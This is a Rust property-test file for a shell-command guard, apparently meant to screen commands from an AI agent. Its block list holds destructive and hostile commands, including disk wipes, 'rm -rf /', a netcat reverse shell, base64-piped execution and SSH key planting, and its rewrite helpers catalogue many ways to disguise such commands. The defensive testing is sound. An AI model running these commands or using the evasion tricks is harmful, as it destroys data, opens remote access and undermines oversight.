//! Property tests: obfuscating rewrites of blocked commands stay blocked; no input panics.

use proptest::prelude::*;
use tollgate_shell::{MAX_PROGRAMS, Profile, ProgramKind, Verdict, analyze};

/// Blocked commands to rewrite. `true`: extra trailing arguments keep it blocked.
const BLOCKED: &[(&str, bool)] = &[
    ("rm -rf /", true),
    ("rm -fr ~", true),
    ("rm -r -f $HOME", true),
    ("sudo id", true),
    ("su root", false),
    ("doas ls", true),
    ("mkfs.ext4 /dev/sda1", true),
    ("dd if=/dev/zero of=/dev/sda", true),
    ("history -c", true),
    ("echo x >> ~/.bashrc", true),
    ("printf k >> ~/.ssh/authorized_keys", true),
    ("chmod -R 777 /", true),
    ("shutdown -h now", true),
    ("reboot", true),
    ("echo cm0= | base64 -d | sh", false),
    ("nc -e /bin/sh 10.0.0.1 4444", true),
    ("tee -a ~/.ssh/authorized_keys < k", true),
    ("wipefs -a /dev/sdb", true),
];

/// Single-quotes `s` for the shell.
fn squote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// Double-quotes `s` for the shell.
fn dquote(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// Splits a leading plain command name off `cmd`.
fn split_name(cmd: &str) -> Option<(&str, &str)> {
    let end = cmd.find([' ', '\t']).unwrap_or(cmd.len());
    let name = &cmd[..end];
    let keyword = matches!(
        name,
        "if" | "for" | "while" | "until" | "case" | "function" | "time"
    );
    let plain = !name.is_empty()
        && !keyword
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/'));
    plain.then(|| (name, &cmd[end..]))
}

/// Puts `wrapper` in front of `cmd`; a compound command is first made a `bash -c` string.
fn wrap(wrapper: &str, cmd: &str) -> String {
    match split_name(cmd) {
        Some(_) => format!("{wrapper} {cmd}"),
        None => format!("{wrapper} bash -c {}", squote(cmd)),
    }
}

fn rewrite(cmd: &str, how: u8, extra_ok: bool) -> String {
    match how {
        0 => match split_name(cmd) {
            Some((name, rest)) => format!("\"{name}\"{rest}"),
            None => format!("( {cmd} )"),
        },
        1 => match split_name(cmd) {
            Some((name, rest)) if name.len() > 1 => format!("{}''{}{rest}", &name[..1], &name[1..]),
            _ => format!("{{ {cmd}; }}"),
        },
        2 => match split_name(cmd) {
            Some((name, rest)) => format!("\\{name}{rest}"),
            None => format!("true && {cmd}"),
        },
        3 => wrap("env A=1", cmd),
        4 => wrap("nice -n 5", cmd),
        5 => wrap("timeout 5", cmd),
        6 => wrap("command", cmd),
        7 => wrap("nohup", cmd),
        8 => format!("echo $( {cmd} )"),
        9 => format!("x=`{cmd}`"),
        10 => format!("cat <( {cmd} )"),
        11 => format!("sh -c {}", squote(cmd)),
        12 => format!("bash -c {}", dquote(cmd)),
        13 => format!("( {cmd} )"),
        14 => format!("{{ {cmd}; }}"),
        15 => format!("true | {cmd}"),
        16 => format!("{cmd} | cat"),
        17 => format!("false || {cmd}"),
        18 => format!("if true; then {cmd}; fi"),
        19 => format!("f() {{ {cmd}; }}"),
        20 => cmd.replace(' ', "  \t "),
        21 if extra_ok => format!("{cmd} extra-arg"),
        21 => format!("  {cmd}  "),
        22 => format!("eval {}", squote(cmd)),
        23 => format!("echo {} | sh", squote(cmd)),
        24 => format!("bash <<'EOF'\n{cmd}\nEOF"),
        25 => wrap("exec", cmd),
        26 => wrap("time", cmd),
        27 => wrap("stdbuf -oL", cmd),
        28 => format!("for i in 1; do {cmd}; done"),
        _ => format!("{cmd} &"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn obfuscating_rewrites_of_blocked_commands_stay_blocked(
        base in 0..BLOCKED.len(),
        steps in prop::collection::vec(0u8..30, 1..4),
    ) {
        let (base, mut extra_ok) = BLOCKED[base];
        let mut cmd = base.to_owned();
        for how in steps {
            cmd = rewrite(&cmd, how, extra_ok);
            extra_ok &= how == 21 || how == 20;
        }
        for profile in Profile::ALL {
            let a = analyze(&cmd, profile);
            prop_assert_eq!(a.verdict, Verdict::Block, "{} {:?}: {:?}", profile, cmd, a.findings);
        }
    }

    #[test]
    fn arbitrary_input_never_panics_and_spans_stay_in_bounds(input in ".{0,200}") {
        for profile in Profile::ALL {
            let a = analyze(&input, profile);
            let strictest = a.findings.iter().map(|f| f.verdict).max().unwrap_or(Verdict::Allow);
            prop_assert_eq!(a.verdict, strictest);
            for f in &a.findings {
                prop_assert!(input.get(f.span.clone()).is_some(), "{:?} {:?}", f, input);
            }
        }
    }

    #[test]
    fn shell_flavoured_input_never_panics(
        input in r#"([a-z]{1,4}|[ \t\n;&|<>(){}$`'"\\=~/*?\[\]!#-]|\$\(|\$\{|<<|>>|<\(|2>&1|-c |sh |rm |sudo ){0,40}"#
    ) {
        for profile in Profile::ALL {
            let a = analyze(&input, profile);
            for f in &a.findings {
                prop_assert!(input.get(f.span.clone()).is_some(), "{:?} {:?}", f, input);
            }
            prop_assert!(a.programs.len() <= MAX_PROGRAMS);
            for p in &a.programs {
                let Some(span) = &p.span else { continue };
                let written = input.get(span.clone());
                prop_assert!(written.is_some(), "{:?} {:?}", p, input);
                // A command name with a place is a plain word: the place holds the name.
                if p.kind == ProgramKind::Command {
                    prop_assert_eq!(written, Some(p.name.as_str()), "{:?}", input);
                }
            }
        }
    }
}

/// Properties of the bounds: random nestings of wrappers, substitutions, subshells, shell
/// strings, groups and pipelines, and long random inputs.
mod bounds {
    use proptest::prelude::*;
    use tollgate_shell::limits::{
        MAX_COMMAND_BYTES, MAX_EXPANSION_BYTES, MAX_FINDINGS, MAX_NESTING, MAX_WORK, MAX_WRAPPERS,
    };
    use tollgate_shell::{Analysis, Profile, Verdict, analyze};

    use super::squote;

    /// Wrappers that run the command after them.
    const WRAPPERS: &[&str] = &[
        "env A=1",
        "nice -n 5",
        "timeout 5",
        "sudo",
        "xargs",
        "command",
        "exec",
        "nohup",
        "stdbuf -oL",
        "setsid",
        "ionice -c 3",
    ];

    /// A generated command and how deep it nests what the analyzer bounds: wrappers and
    /// shell strings on the deepest path.
    #[derive(Debug, Clone)]
    struct Shape {
        text: String,
        wrappers: usize,
        nesting: usize,
    }

    impl Shape {
        fn leaf(text: &str) -> Self {
            Shape {
                text: text.to_owned(),
                wrappers: 0,
                nesting: 0,
            }
        }

        fn map(self, text: String, wrappers: usize, nesting: usize) -> Self {
            Shape {
                text,
                wrappers: self.wrappers + wrappers,
                nesting: self.nesting + nesting,
            }
        }

        fn join(a: Shape, b: Shape, op: &str) -> Self {
            Shape {
                text: format!("{} {op} {}", a.text, b.text),
                wrappers: a.wrappers.max(b.wrappers),
                nesting: a.nesting.max(b.nesting),
            }
        }

        /// Whether the text starts with a plain command name a wrapper can run as is.
        fn simple(&self) -> bool {
            self.text
                .split(' ')
                .next()
                .is_some_and(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_lowercase()))
                && !self
                    .text
                    .contains(['|', '&', ';', '(', '{', '$', '`', '\n'])
        }
    }

    /// `wrapper` around `inner`; a compound inner becomes a `sh -c` string.
    fn wrap(wrapper: &str, inner: Shape) -> Shape {
        if inner.simple() {
            let text = format!("{wrapper} {}", inner.text);
            inner.map(text, 1, 0)
        } else {
            let text = format!("{wrapper} sh -c {}", squote(&inner.text));
            inner.map(text, 1, 1)
        }
    }

    fn shape() -> impl Strategy<Value = Shape> {
        let leaf = prop_oneof![
            Just(Shape::leaf("ls -la")),
            Just(Shape::leaf("rm -rf /")),
            Just(Shape::leaf("echo hi")),
            Just(Shape::leaf("sudo id")),
            Just(Shape::leaf("cat f")),
            "[a-z]{1,6}( [a-z/.-]{1,6}){0,3}".prop_map(|t| Shape::leaf(&t)),
        ];
        leaf.prop_recursive(10, 96, 2, |inner| {
            prop_oneof![
                (0..WRAPPERS.len(), inner.clone()).prop_map(|(w, s)| wrap(WRAPPERS[w], s)),
                inner.clone().prop_map(|s| {
                    let text = format!("echo $( {} )", s.text);
                    s.map(text, 0, 0)
                }),
                inner.clone().prop_map(|s| {
                    let text = format!("( {} )", s.text);
                    s.map(text, 0, 0)
                }),
                inner.clone().prop_map(|s| {
                    let text = format!("{{ {}; }}", s.text);
                    s.map(text, 0, 0)
                }),
                inner.clone().prop_map(|s| {
                    let text = format!("sh -c {}", squote(&s.text));
                    s.map(text, 0, 1)
                }),
                inner.clone().prop_map(|s| {
                    let text = format!("eval {}", squote(&s.text));
                    s.map(text, 0, 1)
                }),
                (inner.clone(), inner.clone()).prop_map(|(a, b)| Shape::join(a, b, "|")),
                (inner.clone(), inner).prop_map(|(a, b)| Shape::join(a, b, "&&")),
            ]
        })
    }

    /// What every analysis must satisfy, whatever the input.
    fn check_invariants(input: &str, a: &Analysis) -> Result<(), TestCaseError> {
        let strictest = a.findings.iter().map(|f| f.verdict).max();
        prop_assert_eq!(a.verdict, strictest.unwrap_or(Verdict::Allow));
        prop_assert!(a.findings.len() <= MAX_FINDINGS + 1, "{}", a.findings.len());
        let ceiling = (MAX_WORK as usize + MAX_EXPANSION_BYTES + 2 * MAX_COMMAND_BYTES) as u64;
        prop_assert!(a.work <= ceiling, "work {}", a.work);
        for f in &a.findings {
            prop_assert!(input.get(f.span.clone()).is_some(), "{:?}", f);
            prop_assert!(f.message.len() <= 1024);
        }
        if limited(a) {
            prop_assert_eq!(a.verdict, Verdict::Block);
        }
        Ok(())
    }

    fn limited(a: &Analysis) -> bool {
        a.findings.iter().any(|f| f.rule == "analysis-limit")
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn random_nestings_stay_within_the_bounds_and_block_past_them(shape in shape()) {
            for profile in Profile::ALL {
                let a = analyze(&shape.text, profile);
                check_invariants(&shape.text, &a)?;
                if shape.wrappers > MAX_WRAPPERS || shape.nesting > MAX_NESTING {
                    prop_assert!(limited(&a), "{:?}: {:?}", shape, a.findings);
                }
            }
        }

        #[test]
        fn wrapper_chains_are_checked_up_to_the_limit_and_block_past_it(
            chain in prop::collection::vec(0..WRAPPERS.len(), 0..40),
        ) {
            let mut shape = Shape::leaf("rm -rf /");
            for &w in chain.iter().rev() {
                shape = wrap(WRAPPERS[w], shape);
            }
            let a = analyze(&shape.text, Profile::Agent);
            check_invariants(&shape.text, &a)?;
            if chain.len() > MAX_WRAPPERS {
                prop_assert!(limited(&a), "{}: {:?}", shape.text, a.findings);
            } else {
                prop_assert!(!limited(&a), "{}: {:?}", shape.text, a.findings);
                prop_assert!(
                    a.findings.iter().any(|f| f.rule == "destructive-delete"),
                    "{}: {:?}", shape.text, a.findings
                );
            }
        }

        #[test]
        fn shell_strings_are_checked_up_to_the_limit_and_block_past_it(
            kinds in prop::collection::vec(0u8..3, 0..14),
        ) {
            let mut text = "rm -rf /".to_owned();
            for (level, kind) in kinds.iter().enumerate() {
                text = match kind {
                    // Heredocs nest without quoting, so deep nestings stay short.
                    0 => format!("bash <<'E{level}'\n{text}\nE{level}"),
                    1 => format!("sh -c {}", squote(&text)),
                    _ => format!("eval {}", squote(&text)),
                };
            }
            let a = analyze(&text, Profile::Agent);
            check_invariants(&text, &a)?;
            if kinds.len() > MAX_NESTING {
                prop_assert!(limited(&a), "{}: {:?}", text, a.findings);
            } else if text.len() <= MAX_COMMAND_BYTES {
                prop_assert!(!limited(&a), "{}: {:?}", text, a.findings);
                prop_assert!(a.findings.iter().any(|f| f.rule == "destructive-delete"));
            }
        }
    }

    proptest! {
        // Each case analyses up to 70 KB three times (unoptimised in `cargo test`).
        #![proptest_config(ProptestConfig::with_cases(16))]

        #[test]
        fn long_random_bytes_never_panic_and_stay_within_the_bounds(
            bytes in prop::collection::vec(any::<u8>(), 0..70_000),
        ) {
            let input = String::from_utf8_lossy(&bytes);
            for profile in Profile::ALL {
                let a = analyze(&input, profile);
                check_invariants(&input, &a)?;
                if input.len() > MAX_COMMAND_BYTES {
                    prop_assert!(limited(&a));
                }
            }
        }

        #[test]
        fn long_shell_token_soup_never_panics_and_stays_within_the_bounds(
            tokens in prop::collection::vec(
                r#"([a-z]{1,4}|[ \t\n;&|<>(){}$`'"\\=~/*?\[\]!#-]|\$\(|\$\{|<<|>>|<\(|2>&1|-c |sh |rm |sudo |env |xargs |eval )"#,
                0..1500,
            ),
        ) {
            let input = tokens.concat();
            for profile in Profile::ALL {
                let a = analyze(&input, profile);
                check_invariants(&input, &a)?;
            }
        }
    }
}
